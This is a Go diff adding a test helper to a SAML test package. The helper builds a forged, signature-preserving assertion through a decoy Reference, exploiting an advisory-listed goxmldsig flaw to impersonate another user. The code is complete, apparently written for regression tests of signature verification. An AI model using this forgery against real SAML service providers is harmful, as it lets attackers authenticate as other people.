@@ -1,12 +1,16 @@
 package samltest
 
 import (
+	"crypto"
 	"crypto/rsa"
+	"crypto/sha256"
 	"crypto/x509"
+	"encoding/base64"
 	"fmt"
 
 	"github.com/beevik/etree"
 	dsig "github.com/russellhaering/goxmldsig"
+	"github.com/russellhaering/goxmldsig/etreeutils"
 )
 
 // Signature-wrapping edits of a response document: the eight XSW variants of Somorovsky et
@@ -123,6 +127,71 @@ func SignedAs(assertion string, as User, key *rsa.PrivateKey, cert *x509.Certifi
 	}
 	d := etree.NewDocument()
 	d.SetRoot(signed)
+	return writeDoc(d)
+}
+
+// WithDecoyReference is the assertion document assertion signed again with key as SignedAs
+// signs (the IdP's key, here), its SignedInfo holding a second Reference, to "#decoy", whose
+// digest is that of the assertion naming as; then the assertion is made to name as, the
+// signature kept. goxmldsig before v1.6.0 checked the digest of the last Reference of a
+// SignedInfo, whichever it named (GHSA-479m-364c-43vc): the assertion naming as verified. An
+// IdP signs a second Reference only by mistake or design of its own; what is in it then is
+// anyone's who can put content before it.
+func WithDecoyReference(assertion string, as User, key *rsa.PrivateKey, cert *x509.Certificate) string {
+	genuine := readDoc(assertion).Root().Copy()
+	if sig := genuine.SelectElement("Signature"); sig != nil {
+		genuine.RemoveChild(sig)
+	}
+	forged := unsignedAs(readDoc(assertion).Root(), as)
+	ctx, err := dsig.NewSigningContext(key, [][]byte{cert.Raw})
+	if err != nil {
+		panic(err)
+	}
+	ctx.Canonicalizer = dsig.MakeC14N10ExclusiveCanonicalizerWithPrefixList("")
+	if err := ctx.SetSignatureMethod(dsig.RSASHA256SignatureMethod); err != nil {
+		panic(err)
+	}
+	signed, err := ctx.SignEnveloped(genuine)
+	if err != nil {
+		panic(err)
+	}
+	sig := mustChild(signed, "Signature")
+	signedInfo := mustChild(sig, "SignedInfo")
+	ref := mustChild(signedInfo, "Reference")
+	decoy := ref.Copy()
+	decoy.CreateAttr("URI", "#decoy")
+	canonical, err := ctx.Canonicalizer.Canonicalize(forged)
+	if err != nil {
+		panic(err)
+	}
+	digest := sha256.Sum256(canonical)
+	mustChild(decoy, "DigestValue").SetText(base64.StdEncoding.EncodeToString(digest[:]))
+	signedInfo.InsertChildAt(ref.Index()+1, decoy)
+	// The SignedInfo signed again, canonicalised with the namespaces in scope at its place
+	// (goxmldsig's ConstructSignature).
+	nsCtx, err := etreeutils.NSBuildParentContext(signedInfo)
+	if err != nil {
+		panic(err)
+	}
+	detached, err := etreeutils.NSDetatch(nsCtx, signedInfo)
+	if err != nil {
+		panic(err)
+	}
+	canonical, err = ctx.Canonicalizer.Canonicalize(detached)
+	if err != nil {
+		panic(err)
+	}
+	sum := sha256.Sum256(canonical)
+	value, err := rsa.SignPKCS1v15(nil, key, crypto.SHA256, sum[:])
+	if err != nil {
+		panic(err)
+	}
+	mustChild(sig, "SignatureValue").SetText(base64.StdEncoding.EncodeToString(value))
+	at := sig.Index()
+	signed.RemoveChild(sig)
+	forged.InsertChildAt(at, sig)
+	d := etree.NewDocument()
+	d.SetRoot(forged)
 	return writeDoc(d)
 }
 
